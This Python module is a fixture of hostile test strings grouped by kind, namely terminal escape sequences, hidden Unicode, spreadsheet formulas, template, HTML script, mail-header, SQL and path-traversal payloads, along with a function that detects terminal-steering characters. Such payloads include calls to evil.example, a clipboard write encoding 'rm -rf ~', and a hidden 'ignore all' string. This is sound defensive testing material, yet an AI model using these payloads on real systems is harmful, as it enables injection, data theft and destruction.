"""Texts that a page, a header or a mail server may send to steer whoever shows them, and how to see that they did.

`HOSTILE` holds them by name; `archive_in` puts each of them into every field of an archive. Invented by us.
"""

import re
import unicodedata

__all__ = ["HOSTILE", "ONE_LINERS", "SHORT", "steering"]

TERMINAL = {
    "clear-screen": "A\x1b[2J\x1b[1;1Hgone",
    "title-set": "A\x1b]0;owned\x07title",
    "hyperlink": "A\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": "A\x1b]52;c;cm0gLXJmIH4=\x07",
    "device-control": 'A\x1bP$q"p\x1b\\B\x1bX sos\x1b\\\x1b^pm\x1b\\\x1b_apc\x1b\\',
    "answerback": "A\x1b[c\x1b[6n\x05",
    "charset-switch": "A\x0e\x1b(0\x0f",
    "c1-csi": "A\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "c1-all": "A" + "".join(map(chr, range(0x80, 0xA0))),
    "c0-all": "A" + "".join(map(chr, range(1, 0x20))),
    "nul": "A\x00B",
    "delete": "A\x7f\x7fB",
    "bell": "A\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "carriage-return": "harmless words\rnewskeep: All is well.",
    "line-feed": "A\n2024-01-01  forged line",
    "line-ends": "A\x0bB\x0cC\x85D\u2028E\u2029F\r\nG",
}
UNSEEN = {
    "bidi-override": "invoice\u202efdp.exe\u202c",
    "bidi-embedding": "A\u202aB\u202bC\u202dD\u202c",
    "bidi-isolate": "A\u2066B\u2067C\u2068D\u2069E",
    "bidi-marks": "A\u200eB\u200fC\u061cD",
    "zero-width": "A\u200bB\u200cC\u200dD\u2060E",
    "byte-order-mark": "\ufeffA\ufeffB",
    "tags": "A" + "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all") + "\U000e007fB",
    "flag-of-wales": "Cymru \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    "annotation": "A\ufff9B\ufffaC\ufffbD",
    "lone-surrogates": "A\ud83dB\udc00C",
    "non-characters": "A\ufdd0B\ufffeC\uffffD\U0001fffeE\U0010ffffF",
    "private-use": "A\ue000B\U000f0000C",
    "combining-flood": "Z" + "\u0301\u0489" * 400 + "!",
}
SHEETS = {
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-link": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "csv-quotes": '"A","B"\n"C;D","=1+1"',
}
TEMPLATES = {
    "jinja-print": "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "jinja-block": "{% for x in range(9) %}x{% endfor %}{# gone #}",
    "percent": "%s %d %(name)s %n %",
    "braces": "{0} {title.__class__} {}",
    "rich-markup": "[red]A[/red][link=https://evil.example/]B[/link][/]",
    "our-marks": "[-A-]{+B+}",
    "shell": "$(reboot) `reboot` ; reboot | sh",
}
MARKUP = {
    "script": "</title></script><script>alert(1)</script>",
    "image-error": "<img src=x onerror=alert(1)>",
    "image-load": '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
    "attribute": '" onmouseover="alert(1)" style="background:url(https://evil.example/)',
    "attribute-single": "' onfocus='alert(1)' autofocus='",
    "css": "<style>@import url(https://evil.example/a.css);*{background:url(//evil.example/)}</style>",
    "css-expression": "</style><p style=\"width:expression(alert(1));background:url('javascript:alert(1)')\">",
    "svg": "<svg onload=alert(1)><use href='data:image/svg+xml,x#y'/><animate onbegin=alert(1)></svg>",
    "mathml": "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example/><input name=password autofocus><button>Go</button></form>",
    "iframe": "<iframe src=https://evil.example/ srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/x.swf></object><embed src=//e><link rel=stylesheet href=//e>",
    "media": "<video poster=//evil.example/ src=//evil.example/><audio src=//evil.example/ autoplay><track src=//e>",
    "javascript-link": "<a href=\"javascript:alert(1)\">A</a><a href=' \x01java\nscript:alert(1)'>B</a>",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>A</a><a href=vbscript:x>B</a>",
    "comment": "<!--><script>alert(1)</script>--> <![CDATA[<script>]]> <?php ?> <!DOCTYPE x [<!ENTITY y 'z'>]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;lt; &nbsp;&#0;",
    "unclosed": "<b <i title='A>B",
    "textarea": "</textarea></noscript></template></xmp><plaintext>",
}
MAIL = {
    "encoded-bcc": "=?utf-8?q?x=0D=0ABcc=3A_thief=40example.net?=",
    "encoded-bcc-base64": "=?utf-8?b?eA0KQmNjOiB0aGllZkBleGFtcGxlLm5ldA==?=",
    "encoded-folded": "=?utf-8?q?a?= \r\n\t=?utf-8?q?=0ABcc=3A_thief=40example.net?=",
    "header": "A\r\nBcc: thief@example.net\r\n\r\n<script>alert(1)</script>",
    "header-bare": "A\nBcc: thief@example.net\n\nbody",
    "header-unicode": "A\u2028Bcc: thief@example.net\x85To: thief@example.net",
    "addresses": '"A", thief@example.net, B <thief@example.net>; C:',
    "dots": "A\r\n.\r\nMAIL FROM:<thief@example.net>",
    "boundary": "--=_0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "long-line": "x" * 3000,
    "long-words": "Ω" * 3000,
}
QUESTIONS = {
    "sql": "'; DROP TABLE stories; --",
    "sql-union": "x' UNION SELECT html FROM reports WHERE '1'='1",
    "fts-quote": 'A " B',
    "fts-near": "NEAR(A B, 2) AND OR NOT",
    "fts-star": "A* ^B",
    "fts-column": "title: A - {title summary}: B",
    "fts-minus": "foo-bar -baz",
    "glob": "* ? [a-z] %_",
    "path": "../../../../etc/passwd",
    "path-absolute": "/etc/passwd\x00.html",
    "path-windows": "..\\..\\con.html|C:\\x",
    "file-name": "-rf --out=/tmp/x ~root $HOME",
}
HOSTILE: dict[str, str] = {**TERMINAL, **UNSEEN, **SHEETS, **TEMPLATES, **MARKUP, **MAIL, **QUESTIONS}
"""Name to text."""
ONE_LINERS = {name: text for name, text in HOSTILE.items() if not set(text) & set("\r\n\x00")}
"""Those that an HTTP header can carry."""
SHORT = {name: text[:60] for name, text in HOSTILE.items()}
"""Where a field would refuse a long one."""

_OWN_COLOURS = re.compile(r"\x1b\[(?:[0-9]{1,3}(?:;[0-9]{1,3})*)?m")
_DIRECTIONS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_FLAG = re.compile("\U0001f3f4[\U000e0020-\U000e007e]{1,8}\U000e007f")


def steering(text: str, *, colours: bool = False) -> str:
    r"""The characters of a text that could steer a terminal, each once; '' for none. `colours`: ours do not count.

    >>> steering("a\x1b[1mb\n\t"), steering("a\x1b[1mb\n\t", colours=True), steering("a\u202e\x85")
    ('\x1b', '', '\x85\u202e')
    """
    shown = _FLAG.sub("", _OWN_COLOURS.sub("", text) if colours else text)
    return "".join(sorted({sign for sign in shown if sign not in "\n\t" and _steers(sign)}))


def _steers(sign: str) -> bool:
    kind, code = unicodedata.category(sign), ord(sign)
    lines, tags = kind in ("Zl", "Zp"), 0xE0000 <= code <= 0xE007F
    hidden = tags or code == 0xFEFF or 0xFFF9 <= code <= 0xFFFB or 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
    return kind in ("Cc", "Cs") or sign in _DIRECTIONS or lines or hidden
